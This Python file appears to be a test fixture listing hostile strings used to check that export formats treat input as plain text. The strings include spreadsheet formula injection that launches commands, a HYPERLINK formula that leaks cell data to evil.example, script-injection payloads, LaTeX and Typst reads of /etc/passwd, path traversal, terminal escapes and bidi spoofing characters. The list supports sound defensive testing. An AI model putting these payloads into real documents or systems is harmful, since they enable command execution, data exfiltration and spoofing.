"""Names that some format would carry out, follow or be broken by, if they were more than text."""

from __future__ import annotations

HOSTILE = (
    "=cmd|' /C calc'!A0",
    "='file:///tmp/[x.xlsx]S'!$A$1",
    "=Charts!$A$1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "{=SUM(1,1)}",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "x;=1+1",
    "x\n=1+1",
    "_xHELLO_ _x0041_ _x000D_",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)> ' onload='x",
    "]]><svg onload=alert(1)>--><!-- &lt;b&gt; &#60;i&#62;",
    "{{ title }} {{ sections }} ${title} %(title)s",
    '#let x = 1 #read("/etc/passwd") #eval("1") $x$ *b* _i_ @ref <label>',
    '"]; #panic() // /* \\u{23}',
    "\\input{/etc/passwd} \\write18{id} \\\\[1cm] ^^5cinput % $x$ & # ~ }",
    "\\end{longtable}\\catcode`\\%=12\\def\\x#1{\\x}",
    "a|b `c` **d** _e_ ~~f~~ [g](javascript:alert(1)) ![h](http://evil.example/x.png)",
    "<javascript:alert(1)> <http://evil.example> [i]: javascript:x",
    "# heading",
    "1. - + > ``` ~~~",
    "> quoted <b>bold</b> <details open ontoggle=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$ &#91;x&#93;",
    "`${alert(1)}` '); alert(1); // \\'",
    "</script>\u2028alert(1)\u2029 */ alert(2)",
    "a\x01b\x08c\x1b]0;owned\x07\x1b[2J\x7f\x85d",
    "\u202eexe.txt\u2066\u200f\u061c\u200b\ufeff e",
    "\ufffe\uffff\ue000 f",
    "../../etc/passwd",
    "--output=/tmp/x",
)

UNSTORABLE = ("a\x00b", "a\ud800b")
"""Words that no plan and no store takes, but that a server may answer."""
